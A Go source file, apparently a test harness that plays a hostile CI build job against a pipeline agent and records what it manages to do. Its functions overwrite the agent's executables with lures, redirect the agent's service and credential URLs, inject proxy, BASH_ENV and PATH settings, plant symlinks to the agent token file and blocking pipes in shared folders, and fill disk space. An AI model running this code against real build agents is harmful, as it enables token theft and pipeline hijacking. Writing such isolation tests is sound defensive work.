package hostile

import (
	"bufio"
	"bytes"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
)

// tokenFile is where the containers that have the token find it: a link to there that one
// of them followed would be followed to something.
const tokenFile = "/run/azp/token/token"

// spoil makes lures of the agent program: each of its files that is run leads to the
// listener, and each that says where the service is leads elsewhere.
func (r *Report) spoil(root, lure, elsewhere, proxy string) {
	_ = filepath.WalkDir(root, func(path string, entry fs.DirEntry, err error) error {
		switch name, _ := filepath.Rel(root, path); {
		case err != nil:
			return nil //nolint:nilerr // Not to be had; the others are.
		case entry.IsDir() && strings.HasPrefix(name, "_"):
			return fs.SkipDir // The work of this build, and the agent's diary.
		case entry.Type().IsRegular() && (filepath.Ext(name) == ".sh" || strings.HasPrefix(name, "bin/") || strings.HasPrefix(name, "externals/")):
			// A program that runs can't be written to, but another can take its place.
			r.write(path, []byte(lure), 0o755)
		}
		return nil
	})
	// As the agent reads them: the URL of the service in .agent, that of its tokens in
	// .credentials; .proxy is on the way to either, .env and .path go to what it starts.
	address := regexp.MustCompile(`"https?://[^"]*"`)
	for _, name := range []string{".agent", ".credentials"} {
		path := filepath.Join(root, name)
		text, err := os.ReadFile(path)
		if err != nil {
			r.Troubles = append(r.Troubles, err.Error())
			continue
		}
		r.write(path, address.ReplaceAll(text, fmt.Appendf(nil, "%q", elsewhere)), 0o600)
	}
	for name, text := range map[string]string{
		".proxy": proxy, ".env": "https_proxy=" + proxy + "\nHTTPS_PROXY=" + proxy + "\nBASH_ENV=" + filepath.Join(root, "env.sh") + "\n",
		".path": filepath.Join(root, "bin"),
	} {
		r.write(filepath.Join(root, name), []byte(text), 0o644)
	}
}

// write puts a file in the place of another.
func (r *Report) write(path string, content []byte, mode fs.FileMode) {
	_ = os.Remove(path) // It may not be there.
	if err := os.WriteFile(path, content, mode); err != nil {
		r.Troubles = append(r.Troubles, err.Error())
		return
	}
	r.Spoiled = append(r.Spoiled, path)
}

// plant lays traps in folders that others may look into: links to the token's place, and
// pipes on which whoever opens them waits for ever, under the names by which containers of
// a pod tell each other something.
func (r *Report) plant(folders []string) {
	for _, folder := range folders {
		probe := filepath.Join(folder, ".probe")
		if err := os.WriteFile(probe, nil, 0o644); err != nil {
			continue // It is not the build's to write.
		}
		_ = os.Remove(probe)
		r.Writable = append(r.Writable, folder)
		for n, name := range []string{"claimed", "busy", "withdrawn", "agent.json", "token", ".agent", ".credentials"} {
			path := filepath.Join(folder, name)
			_ = os.Remove(path)
			trap := func() error { return os.Symlink(tokenFile, path) }
			if n%2 == 1 {
				trap = func() error { return syscall.Mkfifo(path, 0o666) }
			}
			if err := trap(); err != nil {
				r.Troubles = append(r.Troubles, err.Error())
				continue
			}
			r.Planted = append(r.Planted, path)
		}
	}
}

// fill leaves no room in a folder.
func (r *Report) fill(folder string) {
	file, err := os.Create(filepath.Join(folder, "full"))
	if err != nil {
		return
	}
	block := bytes.Repeat([]byte("x"), 64<<10)
	for range 1 << 10 {
		if _, err = file.Write(block); err != nil {
			break
		}
	}
	if err == nil {
		r.Troubles = append(r.Troubles, folder+" has room without end")
	}
	_ = file.Close() // It has failed to be written.
	r.Planted = append(r.Planted, file.Name())
}

// mounts gives the places of file systems, as /proc/self/mountinfo has them (proc(5)).
func mounts(mountinfo string) []string {
	var out []string
	lines := bufio.NewScanner(strings.NewReader(mountinfo))
	for lines.Scan() {
		fields := strings.Fields(lines.Text())
		if len(fields) > 4 && fields[4] != "/" && !strings.HasPrefix(fields[4], procDir) && !strings.HasPrefix(fields[4], sysDir) {
			out = append(out, fields[4])
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}
